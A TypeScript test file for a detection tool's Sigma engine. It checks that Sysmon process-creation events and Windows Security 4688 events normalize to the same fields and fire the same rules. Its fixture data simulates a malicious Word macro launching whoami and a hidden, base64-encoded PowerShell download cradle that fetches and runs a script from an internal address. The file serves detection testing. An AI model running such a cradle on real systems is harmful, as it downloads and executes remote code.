/**
 * Sysmon 1 ⇄ Security 4688: the same process activity written with the project's EVTX writer once as
 * Sysmon process creations and once as Security 4688 events, read back through the EVTX reader and the
 * normalizer, must fire the same process_creation rules — a handful of SigmaHQ's (read in place from
 * the corpus) and an inline rule that checks the 4688 → Sysmon field mapping field by field.
 */
import assert from "node:assert/strict";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { Diagnostics } from "../diagnostics/diagnostics.js";
import type { Event } from "../events/event.js";
import { analyze } from "../pipeline/analyze.js";
import { corpusPath, corpusSkipReason } from "../testing/corpus.js";
import { writeEvtxFile } from "../writers/evtx/evtx-writer.js";
import { securityEvent } from "../writers/evtx/security-event.js";
import { sysmonEvent } from "../writers/evtx/sysmon-event.js";
import { loadRules, parseRuleText } from "./rule-loader.js";
import { SigmaEngine } from "./sigma-engine.js";

const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const CMD = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WHOAMI = "C:\\Windows\\System32\\whoami.exe";
const ENCODED = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
  "utf16le",
).toString("base64");

/** One process start: what both logs record of it. */
interface ProcessStart {
  readonly image: string;
  readonly commandLine: string;
  readonly parent: string;
  readonly parentCommandLine: string;
  readonly pid: number;
  readonly parentPid: number;
}

/** A macro document starts a shell that runs whoami and an encoded PowerShell download cradle. */
const ACTIVITY: readonly ProcessStart[] = [
  {
    image: CMD,
    commandLine: "cmd.exe /c whoami",
    parent: WORD,
    parentCommandLine: `"${WORD}" /n C:\\Users\\alice\\invoice.docm`,
    pid: 4100,
    parentPid: 3000,
  },
  {
    image: WHOAMI,
    commandLine: "whoami",
    parent: CMD,
    parentCommandLine: "cmd.exe /c whoami",
    pid: 4200,
    parentPid: 4100,
  },
  {
    image: POWERSHELL,
    commandLine: `powershell.exe -NoP -W Hidden -Enc ${ENCODED}`,
    parent: CMD,
    parentCommandLine: "cmd.exe /c whoami",
    pid: 4300,
    parentPid: 4100,
  },
];

const time = (i: number) => new Date(Date.UTC(2024, 2, 4, 9, 0, i)).toISOString();

function sysmonRecords() {
  return ACTIVITY.map((a, i) =>
    sysmonEvent(
      1,
      time(i),
      {
        RuleName: "-",
        UtcTime: time(i).replace("T", " ").replace("Z", ""),
        ProcessGuid: `{6f1e0c2a-1111-4000-8000-00000000000${i}}`,
        ProcessId: a.pid,
        Image: a.image,
        FileVersion: "-",
        Description: "-",
        Product: "-",
        Company: "-",
        OriginalFileName: "-",
        CommandLine: a.commandLine,
        CurrentDirectory: "C:\\Users\\alice\\",
        User: "CORP\\alice",
        LogonGuid: "{6f1e0c2a-2222-4000-8000-000000000001}",
        LogonId: 0x3e7n,
        TerminalSessionId: 1,
        IntegrityLevel: "Medium",
        Hashes: "-",
        ParentProcessGuid: "{6f1e0c2a-3333-4000-8000-000000000001}",
        ParentProcessId: a.parentPid,
        ParentImage: a.parent,
        ParentCommandLine: a.parentCommandLine,
        ParentUser: "CORP\\alice",
      },
      { computer: "WS1.corp.local", recordId: i + 1 },
    ),
  );
}

function securityRecords() {
  return ACTIVITY.map((a, i) =>
    securityEvent(
      4688,
      time(i),
      {
        SubjectUserSid: "S-1-5-21-1004336348-1177238915-682003330-1104",
        SubjectUserName: "alice",
        SubjectDomainName: "CORP",
        SubjectLogonId: 0x3e7n,
        NewProcessId: a.pid,
        NewProcessName: a.image,
        TokenElevationType: "%%1938",
        ProcessId: a.parentPid,
        CommandLine: a.commandLine,
        TargetUserSid: "S-1-0-0",
        TargetUserName: "-",
        TargetDomainName: "-",
        TargetLogonId: 0n,
        ParentProcessName: a.parent,
        MandatoryLabel: "S-1-16-8192",
      },
      { computer: "WS1.corp.local", recordId: i + 1 },
    ),
  );
}

/** Checks the fields a 4688 must be normalized to (Sysmon's names and value forms). */
const INLINE_RULE = `title: Office Shell Running Whoami (field mapping check)
id: 5d1c2b7e-0000-4000-8000-00000000e001
status: test
level: high
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\\cmd.exe'
    ParentImage|endswith: '\\winword.exe'
    CommandLine|contains|all:
      - ' /c '
      - whoami
    User: CORP\\alice
    IntegrityLevel: Medium
    ProcessId: 4100
    ParentProcessId: 3000
    LogonId: '0x3e7'
  condition: selection
`;

/** SigmaHQ rules (rules/windows/process_creation/) this activity fires, and on which record. */
const SIGMAHQ: readonly (readonly [file: string, recordIds: readonly number[]])[] = [
  ["proc_creation_win_office_susp_child_processes.yml", [1]],
  ["proc_creation_win_susp_local_system_owner_account_discovery.yml", [2]],
  ["proc_creation_win_powershell_base64_encoded_cmd.yml", [3]],
  ["proc_creation_win_powershell_base64_iex.yml", [3]],
  ["proc_creation_win_powershell_encode.yml", [3]],
  ["proc_creation_win_powershell_non_interactive_execution.yml", [3]],
];

let dir: string;
const events: Record<"sysmon" | "security", Event[]> = { sysmon: [], security: [] };
before(async () => {
  dir = await mkdtemp(join(tmpdir(), "mikiwame-equivalence-"));
  await writeEvtxFile(join(dir, "sysmon.evtx"), sysmonRecords());
  await writeEvtxFile(join(dir, "security.evtx"), securityRecords());
  for (const kind of ["sysmon", "security"] as const) {
    const diagnostics = new Diagnostics();
    await analyze([join(dir, `${kind}.evtx`)], {
      diagnostics,
      onEvents: (batch) => {
        events[kind].push(...batch);
      },
    });
    assert.deepEqual(diagnostics.list(), [], `${kind}.evtx reads without a problem`);
  }
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** `file#recordId` for every match of `engine` over the events of one log. */
function hits(engine: SigmaEngine, kind: "sysmon" | "security"): string[] {
  const out: string[] = [];
  for (const e of events[kind]) {
    for (const m of engine.match(e)) {
      out.push(`${m.rule.source.file.split(/[\\/]/).pop()}#${String(e.identity.recordId)}`);
    }
  }
  return out.sort();
}

describe("Sysmon 1 and Security 4688 fire the same process_creation rules", () => {
  it("both logs normalize to process_creation events with the same process fields", () => {
    assert.equal(events.sysmon.length, 3);
    assert.equal(events.security.length, 3);
    for (let i = 0; i < 3; i++) {
      const [s, w] = [events.sysmon[i] as Event, events.security[i] as Event];
      assert.equal(w.logsource.category, "process_creation");
      assert.equal(s.logsource.category, "process_creation");
      for (const f of ["Image", "CommandLine", "ParentImage", "ProcessId", "ParentProcessId", "User"]) {
        assert.equal(String(w.fields[f]), String(s.fields[f]), `${f} of record ${i + 1}`);
      }
      assert.equal(w.time?.iso, s.time?.iso);
    }
  });

  it("an inline rule over every mapped field matches the shell start in both", () => {
    const loaded = parseRuleText(INLINE_RULE, "inline.yml");
    assert.deepEqual(loaded.rejected, []);
    const engine = new SigmaEngine(loaded.rules);
    assert.deepEqual(hits(engine, "sysmon"), ["inline.yml#1"]);
    assert.deepEqual(hits(engine, "security"), ["inline.yml#1"]);
  });

  it("SigmaHQ rules: the same rules on the same records", async (t) => {
    const folder = corpusPath("sigma", "rules", "windows", "process_creation");
    if (!folder) return t.skip(corpusSkipReason("sigma/rules/windows/process_creation"));
    const loaded = await loadRules(SIGMAHQ.map(([file]) => join(folder, file)));
    assert.deepEqual(
      loaded.rejected.map((r) => `${r.source.file}: ${r.reason}`),
      [],
    );
    assert.equal(loaded.rules.length, SIGMAHQ.length);
    const engine = new SigmaEngine(loaded.rules);
    const expected = SIGMAHQ.flatMap(([file, ids]) => ids.map((id) => `${file}#${id}`)).sort();
    assert.deepEqual(hits(engine, "sysmon"), expected);
    assert.deepEqual(hits(engine, "security"), expected);
  });
});
